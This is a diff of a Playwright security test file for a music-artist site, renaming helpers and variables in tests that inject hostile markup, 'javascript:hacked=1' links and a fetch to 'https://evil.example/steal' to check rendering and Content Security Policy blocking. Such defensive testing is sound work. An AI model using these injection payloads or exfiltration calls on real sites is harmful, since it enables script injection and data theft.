@@ -15,14 +15,14 @@ const HOSTILE = [
 const isHacked = (page: Page) => page.evaluate(() => 'hacked' in window)
 
 /** Changes the server's response to a read. */
-const changed = (page: Page, path: string, change: (response: never) => unknown) =>
+const changeResponse = (page: Page, path: string, change: (response: never) => unknown) =>
   page.route(path, async (route) => {
     const response = (await (await route.fetch()).json()) as never
     await route.fulfill({ json: change(response) })
   })
 
 test('renders hostile markup as text', { tag: '@desktop' }, async ({ page }) => {
-  await changed(page, '/api/polls/active', ([poll]: [{ options: object[] }]) => [
+  await changeResponse(page, '/api/polls/active', ([poll]: [{ options: object[] }]) => [
     {
       ...poll,
       title: HOSTILE[0],
@@ -30,21 +30,21 @@ test('renders hostile markup as text', { tag: '@desktop' }, async ({ page }) => 
       options: HOSTILE.map((title, at) => ({ id: `o${at}`, title, voteCount: null })),
     },
   ])
-  await changed(page, '/api/tracks', (tracks: object[]) =>
+  await changeResponse(page, '/api/tracks', (tracks: object[]) =>
     tracks.map((track, at) => ({ ...track, title: HOSTILE[at % 5], artist: HOSTILE[0], album: HOSTILE[1] })),
   )
-  await changed(page, '/api/concerts/upcoming', (shows: object[]) =>
+  await changeResponse(page, '/api/concerts/upcoming', (shows: object[]) =>
     shows.map((show, at) => ({ ...show, venue: HOSTILE[at % 5], city: HOSTILE[2], address: HOSTILE[0] })),
   )
-  await changed(page, '/api/leaderboard', () => ({
+  await changeResponse(page, '/api/leaderboard', () => ({
     entries: HOSTILE.map((username, at) => ({ rank: at + 1, username, points: 5 })),
     me: null,
   }))
   await openFullPage(page)
   const options = page.getByRole('region', { name: 'Community Voting' }).getByRole('button')
   await expect(options).toHaveText(HOSTILE)
-  const rack = page.getByRole('list', { name: 'All tracks' })
-  for (const text of HOSTILE) await expect(rack.getByText(text, { exact: true }).first()).toBeVisible()
+  const trackList = page.getByRole('list', { name: 'All tracks' })
+  for (const text of HOSTILE) await expect(trackList.getByText(text, { exact: true }).first()).toBeVisible()
   await expect(page.getByRole('region', { name: 'Top supporters' }).getByRole('listitem').last()).toContainText(
     '{{7*7}}',
   )
@@ -78,9 +78,9 @@ test('the CSP blocks injected script', { tag: '@desktop' }, async ({ page, expec
     for (const element of [inline, foreign, handler, style, frame, base]) document.body.appendChild(element)
     await fetch('https://evil.example/steal').catch(() => {})
   })
-  const refused = () => page.evaluate(() => (window as unknown as { violations: string[] }).violations.sort())
+  const violations = () => page.evaluate(() => (window as unknown as { violations: string[] }).violations.sort())
   await expect
-    .poll(refused)
+    .poll(violations)
     .toEqual([
       'base-uri https://evil.example/',
       'connect-src https://evil.example/steal',
@@ -94,7 +94,7 @@ test('the CSP blocks injected script', { tag: '@desktop' }, async ({ page, expec
   await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
 })
 
-test('refuses to be framed by another site', {
+test('rejects being framed by another site', {
   tag: '@desktop',
 }, async ({ page, baseURL, expectConsoleError }) => {
   expectConsoleError(/frame-ancestors/)
@@ -109,7 +109,7 @@ test('refuses to be framed by another site', {
 
 test('a javascript: link does nothing', { tag: '@desktop' }, async ({ page, expectConsoleError }) => {
   expectConsoleError(/Content Security Policy|blocked a javascript/)
-  await changed(page, '/api/config', (config: { artist: { links: object } }) => {
+  await changeResponse(page, '/api/config', (config: { artist: { links: object } }) => {
     const links = { ...config.artist.links, contact: 'javascript:hacked=1', broadcast: 'javascript:hacked=1' }
     return { ...config, artist: { ...config.artist, links } }
   })
@@ -119,5 +119,5 @@ test('a javascript: link does nothing', { tag: '@desktop' }, async ({ page, expe
   await page.getByRole('contentinfo').getByRole('link', { name: 'Contact' }).click()
   await page.getByRole('link', { name: 'Join broadcast' }).click()
   await expect(page.getByRole('heading', { level: 1 })).toHaveCount(1)
-  for (const one of [page, ...opened]) expect(await isHacked(one)).toBe(false)
+  for (const tab of [page, ...opened]) expect(await isHacked(tab)).toBe(false)
 })
